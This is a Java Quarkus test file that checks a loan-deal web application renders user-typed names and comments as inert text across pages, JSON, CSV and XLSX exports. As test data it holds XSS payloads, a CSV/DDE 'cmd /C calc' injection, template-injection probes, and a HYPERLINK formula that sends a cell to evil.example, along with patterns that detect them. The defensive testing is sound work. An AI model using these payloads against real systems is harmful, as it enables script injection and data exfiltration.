package org.prorata.scenarios;

import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.apache.poi.ss.usermodel.CellType;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.prorata.Desk;
import org.prorata.Desk.Staffed;
import org.prorata.identity.Visitor;
import org.prorata.web.SheetReading;
import org.prorata.web.Today;

/** What people type is text and nothing else, wherever it comes out again (rule S7): pages, JSON, CSV, spreadsheets, file names, headers and the trail. */
@QuarkusTest
class InertWordsTest {

    /** Of lenders, tranches and the deal; each is a legal name, if an odd one. */
    private static final String FORMULA = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Fund\\\")";
    private static final String SCRIPT = "<script>alert(1)</script>";
    private static final String BREAKOUT = "\\\"><img src=x onerror=alert(2)>";
    private static final String COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String TEMPLATE = "{inject:frame.csrf} ${7*7} {{7*7}} %{7*7}";
    private static final String TRANCHE = "+1-1 <b onmouseover=alert(3)>First";

    /** What lets a text become something else: in a page, a tag or an attribute of the sender's. */
    private static final Pattern ALIVE = Pattern.compile("(?i)<script>alert|<img src=x|<b onmouse|href=\"javascript:|=\"\"><img");
    private static final Pattern STARTS_A_FORMULA = Pattern.compile("^[\\s\\p{Cf}]*[=+\\-@\\t\\r\\uff1d\\uff0b\\uff0d\\uff20]");
    private static final Pattern NUMBER = Pattern.compile("[+-]?\\d+(\\.\\d+)?");

    private static final List<String> PAGES = List.of("", "/allocation", "/register", "/history", "/payments", "/payments/1", "/payments/2", "/payments/2/slices/principal:second", "/warrants",
            "/adjustments", "/lenders", "/lenders/endeavour", "/lenders/blackrock", "/matrix", "/register/propose", "/register/transfer", "/register/exchange", "/terms/propose?field=deal.title", "/lenders/endeavour/edit",
            "/payments/1/book");
    private static final List<String> RESOURCES = List.of("", "/terms", "/allocation", "/register", "/history", "/positions", "/payments/2/slices", "/warrants", "/adjustments", "/lenders", "/matrix", "/export",
            "/proposals");
    private static final List<String> TABLES = List.of("/allocation", "/register/entries", "/register/positions", "/lenders", "/adjustments", "/matrix");

    @Inject Desk desk;
    @Inject Today today;

    private Staffed deal;

    @BeforeEach
    void a_deal_of_odd_names() {
        today.pretend(LocalDate.of(2010, 6, 10));
        deal = desk.rusoro(file -> file.replace("name: Endeavour Financial Corporation", "name: \"" + FORMULA + "\"").replace("formerly: Endeavour Mining Capital Corp.", "formerly: \"" + SCRIPT + "\"")
                .replace("name: BlackRock Natural Resources Hedge Fund Limited", "name: \"" + BREAKOUT + "\", group: \"" + COMMAND + "\"")
                .replace("name: Lansdowne U.K. Equity Fund L.P.,", "name: \"" + TEMPLATE + "\",").replace("value: First Instalment", "value: \"" + TRANCHE + "\"")
                .replaceFirst("(?m)^(\\s+title:).*$", "$1 {value: \"" + SCRIPT.replace("$", "\\$") + "\", clause: lead}"));
    }

    @AfterEach
    void the_real_date_again() {
        today.pretend(null);
    }

    private Response proposes(String kind, String payload, String reason, String reference) {
        return deal.first().sends().contentType("application/json").body(Map.of("kind", kind, "payload", payload(payload), "reason", reason, "reference", reference))
                .post("/api/v1/deals/" + deal.slug() + "/proposals");
    }

    private static Object payload(String json) {
        return io.restassured.path.json.JsonPath.from(json).get("$");
    }

    private String happens(String kind, String payload, String reference) {
        Response made = proposes(kind, payload, "=1+1\nsecond line " + SCRIPT, reference);
        made.then().statusCode(201);
        String id = made.path("id");
        deal.second().sends().contentType("application/json").body(Map.of("comment", "-2+3 <img src=x onerror=alert(2)>")).post("/api/v1/approvals/" + id + "/approve").then().statusCode(200);
        return id;
    }

    /** Everything that carries a word of somebody's. */
    private List<String> eventful() {
        List<String> approvals = new ArrayList<>();
        approvals.add(happens("payment.book", "{\"payment\":1,\"valueDate\":\"2010-06-10\",\"components\":[\"principal:first\"]}", "=1+1"));
        approvals.add(happens("register.transfer", "{\"from\":\"endeavour\",\"to\":\"odd-fund\",\"toName\":\"\\t".replace("\\t", "") + "=cmd|' /C calc'!A1\",\"amount\":\"1,000,000.00\",\"tradeDate\":\"2010-06-01\","
                + "\"effectiveDate\":\"2010-06-10\"}", "+TC;=1+1 " + SCRIPT));
        approvals.add(happens("adjustment.settle", "{\"adjustment\":1,\"lenders\":[\"endeavour\"],\"on\":\"2010-06-10\",\"how\":\"paid\"}", "@settled " + SCRIPT));
        Response open = proposes("register.exchange", "{\"lender\":\"blackrock\",\"amount\":\"1,000,000.00\",\"on\":\"2010-10-01\"}", SCRIPT, "=2+2");
        open.then().statusCode(201);
        approvals.add(open.path("id"));
        return approvals;
    }

    @Test
    void a_formula_a_script_and_a_line_break_are_text_wherever_they_come_out() {
        List<String> approvals = eventful();
        for (Visitor who : List.of(deal.first(), deal.second(), deal.endeavour())) {
            boolean agent = who != deal.endeavour();
            for (String page : PAGES) {
                page(who, "/deals/" + deal.slug() + page);
            }
            for (String beside : List.of("/deals", "/approvals", "/audit", "/method", "/audit?who=" + "%3Cscript%3Ealert(1)%3C/script%3E", "/login?to=%22%3E%3Cimg%20src=x%20onerror=alert(2)%3E")) {
                page(who, beside);
            }
            for (String resource : RESOURCES) {
                Response answer = who.asks().get("/api/v1/deals/" + deal.slug() + resource);
                assertThat(answer.statusCode()).isIn(200, 403, 404);
                assertThat(answer.contentType()).startsWith("application/json");
                assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
            }
            for (String table : TABLES) {
                table(who, "/deals/" + deal.slug() + table);
            }
            if (agent) {
                approvals.forEach(id -> page(who, "/approvals/" + id));
                table(who, "/approvals/" + approvals.get(1) + "/comparison");
                table(who, "/audit/trail");
            }
        }
        String seen = deal.endeavour().asks().get("/deals/" + deal.slug() + "/lenders/endeavour").asString();
        assertThat(seen).as("shown as it was typed").contains("&lt;script&gt;alert(1)&lt;/script&gt;");
        assertThat(deal.first().asks().get("/deals/" + deal.slug() + "/lenders").asString()).contains("${7*7} {{7*7}} %{7*7}");
    }

    private static void page(Visitor who, String address) {
        Response page = who.asks().accept("text/html").get(address);
        assertThat(page.statusCode()).as(address).isLessThan(500);
        assertThat(page.asString()).as(address).doesNotContainPattern(ALIVE);
        assertThat(page.header("Content-Security-Policy")).as(address).contains("script-src 'self'").doesNotContain("unsafe-inline");
        assertThat(page.asString().replaceAll("\"[^\"]*\"", "\"\"")).as(address).doesNotContainPattern("(?i)<[^>]*\\son[a-z]+\\s*=");
        page.headers().forEach(header -> assertThat(header.getValue()).as(address).doesNotContain("\r", "\n", "<script>"));
    }

    private static void table(Visitor who, String address) {
        Response csv = who.asks().get(address + ".csv");
        if (csv.statusCode() == 404 || csv.statusCode() == 403) {
            return;
        }
        for (String kind : List.of(".csv", ".xlsx")) {
            String saved = who.asks().get(address + kind).then().statusCode(200).extract().header("Content-Disposition");
            assertThat(saved).as(address).matches("attachment; filename=\"[A-Za-z0-9][A-Za-z0-9._-]*\"");
        }
        SheetReading.csv(csv.asByteArray()).forEach(row -> row.forEach(cell -> {
            if (!NUMBER.matcher(cell).matches()) {
                assertThat(cell).as(address).doesNotContainPattern(STARTS_A_FORMULA);
                cell.lines().forEach(line -> assertThat(line).as(address).doesNotContainPattern(STARTS_A_FORMULA));
                for (String part : cell.split(";")) {
                    assertThat(part).as(address + ", in a spreadsheet that splits at semicolons").doesNotContainPattern(STARTS_A_FORMULA);
                }
            }
        }));
        SheetReading book = SheetReading.of(who.asks().get(address + ".xlsx").asByteArray());
        for (int sheet = 0; sheet < book.book().getNumberOfSheets(); sheet++) {
            assertThat(book.types(sheet)).as(address).doesNotContain(CellType.FORMULA, CellType.ERROR);
            assertThat(book.book().getSheetAt(sheet).getHyperlinkList()).as(address).isEmpty();
        }
    }

    /** A line break, a null, a mark of direction: what no name needs is no name. */
    @Test
    void what_cannot_be_seen_is_refused_wherever_somebody_can_type_it() {
        String transfer = "{\"from\":\"endeavour\",\"to\":\"odd-fund\",\"toName\":\"%s\",\"amount\":\"1,000,000.00\",\"tradeDate\":\"2010-06-01\",\"effectiveDate\":\"2010-06-10\"}";
        for (String unseen : List.of("a\nb", "a\rb", "a\u0000b", "a\u202eb", "a\u2066b", "a\u200fb", "a\u001bb", "a\u2028b")) {
            String escaped = unseen.codePoints().mapToObj(c -> c < 0x7f && c >= ' ' ? Character.toString(c) : String.format("\\u%04x", c)).reduce("", String::concat);
            assertThat(proposes("register.transfer", transfer.formatted(escaped), "why", "TC-1").statusCode()).as("name " + escaped).isIn(400, 422);
            assertThat(proposes("payment.amount", "{\"term\":\"accrued\",\"due\":\"2010-06-10\",\"amount\":\"0.00\"}", "why", unseen).statusCode()).as("reference " + escaped).isIn(400, 422);
            assertThat(deal.first().sends().contentType("text/plain; charset=UTF-8").body("deal:\n  slug: x\n  title: \"" + escaped + "\"\n").post("/api/v1/deals").statusCode()).isIn(400, 422);
            if (!unseen.matches("a[\r\n]b")) {
                assertThat(proposes("payment.amount", "{\"term\":\"accrued\",\"due\":\"2010-06-10\",\"amount\":\"0.00\"}", unseen, "TC-1").statusCode()).as("reason " + escaped).isIn(400, 422);
                String open = deal.proposed("payment.amount", "{\"term\":\"accrued\",\"due\":\"2010-06-10\",\"amount\":\"0.00\"}");
                assertThat(deal.second().sends().contentType("application/json").body(Map.of("comment", unseen)).post("/api/v1/approvals/" + open + "/approve").statusCode()).as("comment " + escaped).isIn(400, 422);
                deal.first().sends().contentType("application/json").body(Map.of("comment", "")).post("/api/v1/approvals/" + open + "/withdraw").then().statusCode(200);
            }
        }
        assertThat(deal.first().asks().get("/api/v1/deals/" + deal.slug() + "/proposals").asString()).doesNotContain("TC-1");
    }
}
